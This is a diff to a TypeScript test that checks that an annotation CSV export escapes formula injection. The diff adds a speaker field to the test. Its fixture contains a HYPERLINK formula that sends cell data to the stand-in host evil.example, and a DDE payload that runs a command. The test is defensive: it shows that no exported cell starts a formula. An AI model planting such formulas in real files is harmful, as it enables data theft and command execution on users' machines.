@@ -11,7 +11,7 @@ const openCodingWorkspace = useCodingWorkspaces();
 async function hostileWorkspace() {
   const corpus = new TestCorpus();
   const title = '=HYPERLINK("http://evil.example/?d="&A2,"Open report")';
-  corpus.setDocument('imported-1', title, paragraphsToPassages('imported-1', ['+cmd|\'/C calc\'!A0 is what the minutes said.'], ['R1']));
+  corpus.setDocument('imported-1', title, paragraphsToPassages('imported-1', ['+cmd|\'/C calc\'!A0 is what the minutes said.'], ['=Speaker']));
   const services = createCodingServices((await openCodingWorkspace()).workspace, corpus);
   const topic = await services.topics.create({ name: '@Trust' });
   await services.annotations.createFromQuote({
@@ -24,7 +24,7 @@ async function hostileWorkspace() {
 }
 
 describe('annotation exports with hostile text', () => {
-  it('CSV: no cell starts a formula, whether it came from a title, a quote, a note or a topic', async () => {
+  it('CSV: no cell starts a formula, whether it came from a title, a quote, a note, a topic or a speaker', async () => {
     const { corpus, services } = await hostileWorkspace();
     const csv = exportAnnotationsCsv(services.annotations.list(), { topics: services.topics.tree(), lookup: corpus });
     const [header, row] = parseCsv(csv) as [string[], string[]];
@@ -34,6 +34,7 @@ describe('annotation exports with hostile text', () => {
     expect(cell('note')).toMatch(/^'-1\+1 see \[the source\]/);
     expect(cell('topic')).toBe("'@Trust");
     expect(cell('page')).toBe('1');
+    expect(cell('speaker')).toBe("'=Speaker");
     for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
   });
 
